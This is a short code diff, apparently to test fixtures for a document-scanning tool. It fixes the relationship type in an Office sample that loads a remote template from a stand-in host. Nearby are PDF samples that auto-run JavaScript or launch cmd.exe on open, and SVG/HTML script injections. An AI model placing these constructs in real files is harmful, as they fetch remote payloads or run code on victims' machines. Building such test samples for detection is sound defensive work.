@@ -39,7 +39,7 @@ JAVASCRIPT = {"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pi
 LAUNCH = {"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))}
 FETCHED = (
     b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
-    b'Type="http://x/attachedTemplate" Target="https://elsewhere.example/a.dotm" TargetMode="External"/></Relationships>'
+    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://elsewhere.example/a.dotm" TargetMode="External"/></Relationships>'
 )
 SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
 PAGE = b"<!doctype html><script>alert(1)</script>"
